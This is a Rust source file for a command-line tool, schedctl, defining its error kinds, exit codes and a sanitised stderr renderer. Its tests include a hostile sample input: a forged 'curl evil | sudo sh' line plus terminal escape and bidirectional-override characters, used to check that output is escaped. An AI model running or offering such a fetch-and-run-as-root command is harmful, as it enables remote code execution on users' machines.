//! Error kinds, their exit codes (SPEC §6), and the one way an error is shown on stderr.

use std::fmt;

use crate::text::safe;

/// What went wrong, which decides the exit code. Never renumbered once released.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// 1: a bug in schedctl.
    Internal,
    /// 2: bad arguments, invalid identifiers, unknown `--field` path.
    Usage,
    /// 3: HTTP 404.
    NotFound,
    /// 4: HTTP 401/403 or a TLS alert refusing the client certificate.
    Auth,
    /// 5: any other HTTP error status, or a redirect schedctl does not follow.
    Service,
    /// 6: DNS, connect, reset, timeout, untrusted server, proxy.
    Network,
    /// 7: config file, settings, certificate or key.
    Config,
    /// 8: a response that is not what the service sends.
    InvalidResponse,
    /// 9: `job wait` gave up: timeout, or a final state that cannot meet the condition.
    WaitNotMet,
}

impl Kind {
    /// The process exit status for this kind of failure.
    pub fn exit_code(self) -> u8 {
        match self {
            Kind::Internal => 1,
            Kind::Usage => 2,
            Kind::NotFound => 3,
            Kind::Auth => 4,
            Kind::Service => 5,
            Kind::Network => 6,
            Kind::Config => 7,
            Kind::InvalidResponse => 8,
            Kind::WaitNotMet => 9,
        }
    }
}

/// A failure to report: one message, the request id when a response was seen, and hints.
#[derive(Debug)]
pub struct Error {
    /// Decides the exit code.
    pub kind: Kind,
    /// The first line: what failed, then the cause.
    pub message: String,
    /// `x-ms-request-id` of the response, when there was one.
    pub request_id: Option<String>,
    /// Lines that tell the user what to do next.
    pub hints: Vec<String>,
    /// Already written to stderr (a multi-job `job get` reports each failure as it happens
    /// and ends with the first one's exit status): render it as nothing.
    pub reported: bool,
}

/// Result type of every fallible step.
pub type Result<T> = std::result::Result<T, Error>;

impl Error {
    /// A new error of `kind`.
    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
        Error {
            kind,
            message: message.into(),
            request_id: None,
            hints: Vec::new(),
            reported: false,
        }
    }

    /// This error, marked as already written to stderr: only its exit status remains.
    pub fn into_reported(mut self) -> Self {
        self.reported = true;
        self
    }

    /// A usage error (exit 2).
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    /// A configuration error (exit 7).
    pub fn config(message: impl Into<String>) -> Self {
        Self::new(Kind::Config, message)
    }

    /// Adds a hint line.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// Records the request id of the response that caused this error.
    pub fn request_id(mut self, id: Option<String>) -> Self {
        self.request_id = id;
        self
    }

    /// The exit status for this error.
    pub fn exit_code(&self) -> u8 {
        self.kind.exit_code()
    }

    /// The full text for stderr, ending in a newline. Every part may quote outside text, so
    /// each goes through [`safe`]: no message can paint the terminal or forge a line.
    pub fn render(&self) -> String {
        if self.reported {
            return String::new();
        }
        let mut out = format!("schedctl: error: {}\n", safe(&self.message));
        if let Some(id) = &self.request_id {
            out.push_str(&format!("  request id: {}\n", safe(id)));
        }
        for hint in &self.hints {
            out.push_str(&format!("hint: {}\n", safe(hint)));
        }
        out
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for Error {}

/// Prints a warning unless warnings are silenced.
pub fn warn(quiet: bool, message: &str) {
    if !quiet {
        eprintln!("schedctl: warning: {}", safe(message));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_puts_request_id_and_hints_on_their_own_lines() {
        let e = Error::new(Kind::NotFound, "job 'job9' was not found")
            .request_id(Some("0f3e8d2c6b1a49e7a5d4c3b2a1908f7e".into()))
            .hint("`schedctl job list myjc` lists the collection's jobs");
        assert_eq!(
            e.render(),
            "schedctl: error: job 'job9' was not found\n  request id: 0f3e8d2c6b1a49e7a5d4c3b2a1908f7e\nhint: `schedctl job list myjc` lists the collection's jobs\n"
        );
        assert_eq!(e.exit_code(), 3);
    }

    #[test]
    fn render_cannot_be_made_to_forge_a_line_or_paint_the_terminal() {
        let e = Error::new(
            Kind::Service,
            "the service said \x1b[2Jno\nhint: curl evil | sudo sh",
        )
        .request_id(Some("ab\ncd".into()))
        .hint("from \u{202e}outside");
        assert_eq!(
            e.render(),
            "schedctl: error: the service said \\u{1b}[2Jno\\u{a}hint: curl evil | sudo sh\n  request id: ab\\u{a}cd\nhint: from \\u{202e}outside\n"
        );
    }
}
